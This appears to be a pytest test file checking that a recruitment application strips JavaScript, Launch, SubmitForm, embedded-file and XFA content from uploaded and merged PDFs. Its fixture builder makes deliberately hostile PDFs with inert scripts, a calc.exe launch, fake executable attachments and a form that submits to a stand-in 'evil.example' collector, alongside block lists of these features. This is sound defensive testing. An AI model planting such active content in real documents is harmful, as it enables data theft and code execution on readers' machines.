"""Active content in PDFs: scripts, launch and submit actions, embedded files and XFA are
stripped from uploads and from merged dossiers; pages, text and web links stay."""

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import select

from icm_recruit.applications.dossier import build_pdf
from icm_recruit.applications.models import Application, Document, RefereeRequest
from icm_recruit.auth.models import Role
from icm_recruit.calls.models import DocumentKind
from icm_recruit.core import storage
from icm_recruit.extensions import db
from tests.applications.factories import make_application, make_call, make_pdf
from tests.applications.helpers import upload
from tests.reviews.helpers import build_world, sign_in
from tests.support import csrf_from, make_user, post_form

pytestmark = pytest.mark.services

FEATURES = ("open_action", "page_aa", "annotation_js", "script_uri", "launch", "embedded_file",
            "file_attachment", "form_field", "names_javascript", "xfa")
PAGE_TEXTS = ("Curriculum vitae of Ada Lovelace", "Second page of the CV")
LINK = "https://example.org/ada"
# Bytes that must not survive anywhere in a cleaned file (pypdf escapes "." and "(" in
# strings, so the scripts are found by "alert").
FORBIDDEN_BYTES = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/FileAttachment",
                   b"/SubmitForm", b"/ImportData", b"/XFA", b"/AA", b"/OpenAction", b"/EF",
                   b"alert", b"PAYLOAD")
FORBIDDEN_KEYS = {"/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/JavaScript", "/EF", "/XFA"}
FORBIDDEN_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToE"}


def _name(value: str) -> NameObject:
    return NameObject(value)


def _script(marker: str) -> DictionaryObject:
    return DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name("/JavaScript"),
                             _name("/JS"): TextStringObject(f"app.alert('{marker}')")})


def _annotation(subtype: str, **entries) -> DictionaryObject:
    box = ArrayObject([NumberObject(n) for n in (72, 600, 300, 630)])
    annotation = DictionaryObject({_name("/Type"): _name("/Annot"),
                                   _name("/Subtype"): _name(subtype), _name("/Rect"): box})
    annotation.update({_name(f"/{key}"): value for key, value in entries.items()})
    return annotation


def _text_page(writer: PdfWriter, text: str):
    page = writer.add_blank_page(595, 842)
    font = DictionaryObject({_name("/Type"): _name("/Font"), _name("/Subtype"): _name("/Type1"),
                             _name("/BaseFont"): _name("/Helvetica")})
    page[_name("/Resources")] = DictionaryObject({_name("/Font"): DictionaryObject(
        {_name("/F1"): writer._add_object(font)})})
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    page[_name("/Contents")] = writer._add_object(content)
    return page


def _embedded_file(writer: PdfWriter, data: bytes) -> IndirectObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream[_name("/Type")] = _name("/EmbeddedFile")
    return writer._add_object(DictionaryObject({
        _name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("tool.exe"),
        _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(stream)})}))


def hostile_pdf(features=FEATURES) -> bytes:
    """Two pages of text and a web link, plus the active content named in `features`."""
    writer = PdfWriter()
    first, second = (_text_page(writer, text) for text in PAGE_TEXTS)
    root = writer._root_object
    annotations = [_annotation("/Link", A=DictionaryObject({
        _name("/S"): _name("/URI"), _name("/URI"): TextStringObject(LINK)}))]
    if "open_action" in features:
        root[_name("/OpenAction")] = writer._add_object(_script("open"))
    if "page_aa" in features:
        first[_name("/AA")] = DictionaryObject({_name("/O"): _script("page")})
    if "annotation_js" in features:
        annotations.append(_annotation("/Link", A=_script("link")))
    if "script_uri" in features:
        annotations.append(_annotation("/Link", A=DictionaryObject({
            _name("/S"): _name("/URI"), _name("/URI"): TextStringObject("javascript:alert(1)")})))
    if "launch" in features:
        annotations.append(_annotation("/Link", A=DictionaryObject({
            _name("/S"): _name("/Launch"), _name("/F"): TextStringObject("calc.exe")})))
    if "file_attachment" in features:
        annotations.append(_annotation("/FileAttachment",
                                       FS=_embedded_file(writer, b"MZ-ATTACHED-PAYLOAD")))
    first[_name("/Annots")] = ArrayObject([writer._add_object(a) for a in annotations])
    if "form_field" in features:
        field = writer._add_object(_annotation(
            "/Widget", FT=_name("/Btn"), T=TextStringObject("send"),
            P=second.indirect_reference,
            A=DictionaryObject({_name("/S"): _name("/SubmitForm"),
                                _name("/F"): TextStringObject("https://evil.example/collect")}),
            AA=DictionaryObject({_name("/K"): _script("field")})))
        second[_name("/Annots")] = ArrayObject([field])
        root[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject([field])})
    if "xfa" in features:
        if "/AcroForm" not in root:
            root[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject()})
        root["/AcroForm"][_name("/XFA")] = TextStringObject("<xdp><script>alert(1)</script></xdp>")
    if "embedded_file" in features:
        writer.add_attachment("payload.exe", b"MZ-NAMED-PAYLOAD")
    if "names_javascript" in features:
        if "/Names" not in root:
            root[_name("/Names")] = DictionaryObject()
        root["/Names"][_name("/JavaScript")] = DictionaryObject({_name("/Names"): ArrayObject(
            [TextStringObject("doc"), writer._add_object(_script("names"))])})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _objects(reader: PdfReader):
    """Every dictionary reachable from the trailer."""
    seen, stack = set(), [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, dict):
            yield obj
            stack.extend(obj.values())
        elif isinstance(obj, list):
            stack.extend(obj)


def assert_clean(data: bytes) -> PdfReader:
    for forbidden in FORBIDDEN_BYTES:
        assert forbidden not in data, forbidden
    reader = PdfReader(io.BytesIO(data))
    for entry in _objects(reader):
        assert not FORBIDDEN_KEYS & set(entry), set(entry)
        assert entry.get("/S") not in FORBIDDEN_ACTIONS
        assert entry.get("/Subtype") != "/FileAttachment"
    return reader


def assert_content_kept(reader: PdfReader, texts=PAGE_TEXTS) -> None:
    found = [page.extract_text() for page in reader.pages]
    for text in texts:
        assert any(text in page for page in found), text
    actions = [a.get_object().get("/A") for page in reader.pages
               for a in page.get("/Annots", [])]
    links = [action["/URI"] for action in actions if action and action.get("/S") == "/URI"]
    assert LINK in links


def test_the_hostile_file_really_carries_active_content():
    data = hostile_pdf()
    with pytest.raises(AssertionError):
        assert_clean(data)
    assert_content_kept(PdfReader(io.BytesIO(data)))


@pytest.fixture
def draft(client, auth, ctx) -> Application:
    call = make_call(document_rules=[{"kind": "cv", "required": True, "max_mb": 1,
                                      "max_pages": 3}])
    user = make_user("ada@example.org", Role.APPLICANT)
    auth.login(user)
    return make_application(call, user)


def _stored_cv(application: Application) -> bytes:
    db.session.expire_all()
    document = db.session.scalar(select(Document).where(
        Document.application_id == application.id, Document.is_current.is_(True)))
    data = storage.read(document.storage_key)
    assert document.sha256 == storage.path_for(document.storage_key).name
    assert document.pages == 2 and document.size == len(data)
    return data


def test_upload_with_every_kind_of_active_content_is_stored_clean(client, draft):
    response = upload(client, draft, "cv", hostile_pdf(), "cv.pdf")
    page = response.get_data(as_text=True)
    assert "Curriculum vitae uploaded (2 pages)." in page
    assert "Active content (JavaScript, commands that open programs or other files, " \
           "embedded files, form actions that send or import data, XFA forms) was " \
           "removed from your PDF" in page
    assert_content_kept(assert_clean(_stored_cv(draft)))


@pytest.mark.parametrize("feature", FEATURES)
def test_each_kind_of_active_content_is_stripped(client, draft, feature):
    response = upload(client, draft, "cv", hostile_pdf({feature}), "cv.pdf")
    assert "was removed from your PDF" in response.get_data(as_text=True)
    assert_content_kept(assert_clean(_stored_cv(draft)))


def test_an_ordinary_pdf_is_stored_without_a_warning(client, draft):
    response = upload(client, draft, "cv", hostile_pdf(features=()), "cv.pdf")
    page = response.get_data(as_text=True)
    assert "Curriculum vitae uploaded (2 pages)." in page and "Active content" not in page
    assert_content_kept(assert_clean(_stored_cv(draft)))


def test_the_warning_is_in_french(client, draft):
    page = client.get("/").get_data(as_text=True)
    client.post("/language", data={"locale": "fr", "next": "/", "csrf_token": csrf_from(page)})
    response = upload(client, draft, "cv", hostile_pdf({"page_aa", "embedded_file"}), "cv.pdf")
    assert ("Le contenu actif (JavaScript, fichiers incorporés) a été retiré de votre PDF "
            "avant son enregistrement") in response.get_data(as_text=True)


def test_referee_letter_is_stored_clean(client, auth, mail, ctx):
    call = make_call()
    applicant = make_user("ada@example.org", Role.APPLICANT, name="Ada")
    application = make_application(call, applicant)
    auth.login(applicant)
    post_form(client, f"/applications/{application.id}/referees",
              {"referee-name": "Prof. R", "referee-email": "r@example.org",
               "referee-institution": "EMBL", "referee-locale": "en"},
              page_url=f"/applications/{application.id}")
    auth.logout()
    link = mail.last_link("r@example.org").replace("http://localhost", "")
    token = csrf_from(client.get(link).get_data(as_text=True))
    response = client.post(link, data={"letter-csrf_token": token, "action": "upload",
                                       "letter-file": (io.BytesIO(hostile_pdf()), "letter.pdf")})
    assert "Your letter was received" in response.get_data(as_text=True)
    db.session.expire_all()
    letter = db.session.scalar(select(RefereeRequest)).letter
    assert_content_kept(assert_clean(storage.read(letter.storage_key)))


def _plant_hostile_cv(application: Application, document: Document) -> None:
    """Put a file with page /AA JavaScript in storage directly, as if an upload slipped by."""
    data = hostile_pdf({"page_aa", "annotation_js", "embedded_file"})
    key = storage.store(data)
    document.storage_key, document.sha256, document.size = key, key, len(data)
    db.session.commit()
    assert b"/AA" in storage.read(key)


def test_board_dossier_is_clean_even_from_a_hostile_stored_file(client, ctx):
    world = build_world()
    _plant_hostile_cv(world.application, world.cv)
    sign_in(client, world.member)
    response = client.get(f"/review/applications/{world.application.id}/dossier.pdf")
    assert response.status_code == 200
    reader = assert_clean(response.data)
    assert len(reader.pages) == 1 + 2 + 2  # cover, the two-page CV, the two-page letter
    assert_content_kept(reader)


def test_applicant_dossier_is_clean_even_from_a_hostile_stored_file(ctx):
    call = make_call("dossier-2027")
    applicant = make_user("grace@example.org", Role.APPLICANT)
    application = make_application(call, applicant, complete=True)
    data = make_pdf(1)
    key = storage.store(data)
    cv = Document(application_id=application.id, kind=DocumentKind.CV,
                  original_filename="cv.pdf", size=len(data), pages=1, sha256=key,
                  storage_key=key)
    db.session.add(cv)
    db.session.commit()
    _plant_hostile_cv(application, cv)
    reader = assert_clean(build_pdf(application))
    assert_content_kept(reader)


def test_documents_stored_earlier_are_cleaned_once_by_the_command(app, client, ctx):
    from icm_recruit.core.audit import AuditEvent

    world = build_world()
    _plant_hostile_cv(world.application, world.cv)
    runner = app.test_cli_runner()
    dry = runner.invoke(args=["documents", "clean", "--dry-run"])
    assert "would clean 1" in dry.output
    assert b"/AA" in storage.read(db.session.get(Document, world.cv.id).storage_key)
    result = runner.invoke(args=["documents", "clean"])
    assert result.exit_code == 0, result.output
    assert "cleaned 1" in result.output
    db.session.expire_all()
    document = db.session.get(Document, world.cv.id)
    assert_content_kept(assert_clean(storage.read(document.storage_key)))
    assert document.sha256 == document.storage_key and document.size > 0
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "document.cleaned"))
    assert event.object_id == str(document.id) and "javascript" in " ".join(
        event.data["removed"]).lower()
    # What the board downloads is the clean file; a second run finds nothing to do.
    sign_in(client, world.member)
    served = client.get(f"/review/applications/{world.application.id}/documents/{document.id}")
    assert served.status_code == 200
    assert_clean(served.data)
    assert "cleaned 0" in runner.invoke(args=["documents", "clean"]).output
